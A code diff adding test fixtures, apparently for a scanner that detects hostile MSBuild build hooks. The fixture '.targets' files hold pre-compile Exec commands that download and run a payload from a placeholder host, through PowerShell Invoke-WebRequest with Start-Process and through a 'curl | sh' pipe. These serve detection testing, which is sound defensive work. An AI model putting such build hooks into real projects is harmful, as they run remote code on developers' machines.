@@ -60,6 +60,32 @@ File.WriteAllBytes(path, bytes);
 System.Diagnostics.Process.Start(path);`),
       },
     },
+    {
+      name: 'command-line',
+      about: 'No inline task: a command line hands the same to PowerShell.',
+      files: {
+        'build/Fixture.Package.targets': `<Project>
+  <Target Name="PrepareFixture" BeforeTargets="CoreCompile"
+          Condition="'$(ASSAY_FIXTURE_NEVER_SET)' == 'run'">
+    <Exec Command="powershell -NoProfile -Command &quot;Invoke-WebRequest https://files.fixture.invalid/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe&quot;" />
+  </Target>
+</Project>
+`,
+      },
+    },
+    {
+      name: 'shell-pipe',
+      about: 'A command line that evaluates what it downloads.',
+      files: {
+        'build/Fixture.Package.targets': `<Project>
+  <Target Name="PrepareFixture" BeforeTargets="CoreCompile"
+          Condition="'$(ASSAY_FIXTURE_NEVER_SET)' == 'run'">
+    <Exec Command="curl -s https://files.fixture.invalid/a.sh | sh" />
+  </Target>
+</Project>
+`,
+      },
+    },
   ],
   clean: [
     {
